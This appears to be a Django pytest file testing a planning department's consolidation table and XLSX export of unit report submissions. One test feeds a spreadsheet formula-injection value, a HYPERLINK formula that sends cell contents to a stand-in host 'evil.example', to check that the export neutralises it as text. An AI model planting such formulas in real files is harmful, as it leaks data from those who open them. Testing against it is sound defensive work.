"""The Planning Department's table of a period's submissions (units × targets) and its XLSX."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import load_workbook

from theodoi.reporting.selectors import consolidation_table, consolidation_xlsx
from theodoi.reporting.services import form_open_or_create, form_save_values, form_submit

pytestmark = pytest.mark.django_db


def _health_submitted(world):
    c = world.cast
    form = form_open_or_create(user=c.health_reporter, regime=world.regime, unit=c.health, period_key=world.period.key)
    form_save_values(user=c.health_reporter, form=form, expected_version=form.version,
                     values=[{"target": world.beds.pk, "value": "30,5"}, {"target": world.insured.pk, "value": "90"}])
    form_submit(user=c.health_reporter, form=form)


def test_every_unit_and_target_appears_with_the_missing_ones_marked(world):
    _health_submitted(world)
    rows = consolidation_table(user=world.cast.planner, regime=world.regime, period_key=world.period.key)
    got = {(r.unit.code, r.indicator): (r.value, r.missing) for r in rows}
    assert got[("so-yte", "Số giường bệnh/vạn dân")][1] is False
    assert got[("huyen-dak-ha", "Sản lượng lúa")] == (None, True)
    assert len(rows) == 3


def test_the_xlsx_export_has_a_header_and_marks_missing_values(world):
    _health_submitted(world)
    data = consolidation_xlsx(user=world.cast.leader, regime=world.regime, period_key=world.period.key)
    ws: Any = load_workbook(io.BytesIO(data)).active
    assert ws["A3"].value == "Đơn vị" and ws["F3"].value == "Thực hiện"
    values = {ws.cell(r, 3).value: ws.cell(r, 6).value for r in range(4, ws.max_row + 1)}
    assert values["Số giường bệnh/vạn dân"] == 30.5
    assert values["Sản lượng lúa"] == "THIẾU"


def test_a_reporter_cannot_see_the_consolidation(world):
    with pytest.raises(PermissionDenied):
        consolidation_table(user=world.cast.district_reporter, regime=world.regime, period_key=world.period.key)


def test_the_page_and_its_download(world, client):
    _health_submitted(world)
    client.force_login(world.cast.planner)
    url = f"/bao-cao-dinh-ky/tong-hop/?regime={world.regime.pk}&period={world.period.key}"
    assert "Thiếu" in client.get(url).content.decode()
    download = client.get(url + "&format=xlsx")
    assert download["Content-Type"].startswith("application/vnd.openxmlformats")


def test_a_reporters_formula_comment_ends_as_text_in_the_export(world):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    c = world.cast
    form = form_open_or_create(user=c.health_reporter, regime=world.regime, unit=c.health, period_key=world.period.key)
    form_save_values(user=c.health_reporter, form=form, expected_version=form.version,
                     values=[{"target": world.beds.pk, "value": "30,5", "comment": hostile}])
    data = consolidation_xlsx(user=world.cast.planner, regime=world.regime, period_key=world.period.key)
    ws: Any = load_workbook(io.BytesIO(data)).active
    row = next(r for r in range(4, ws.max_row + 1) if ws.cell(r, 3).value == "Số giường bệnh/vạn dân")
    comment = ws.cell(row, 9)
    assert comment.value == hostile and comment.data_type == "s" and comment.quotePrefix
    assert ws.cell(row, 6).value == 30.5


def test_without_a_chosen_regime_the_page_opens_on_the_one_most_units_report_under(world, client):
    """A small regime whose name sorts first (a sector's pilot) is not where the page opens."""
    from theodoi.reporting.models import ReportingDuty, ReportingRegime

    pilot = ReportingRegime.objects.create(name="A - thí điểm một ngành", config=world.regime.config)
    ReportingDuty.objects.create(regime=pilot, unit=world.cast.health, target=world.beds)
    assert ReportingRegime.objects.first() == pilot  # by name, the pilot would win
    client.force_login(world.cast.planner)
    page = client.get("/bao-cao-dinh-ky/tong-hop/")
    assert page.context["regime"] == world.regime
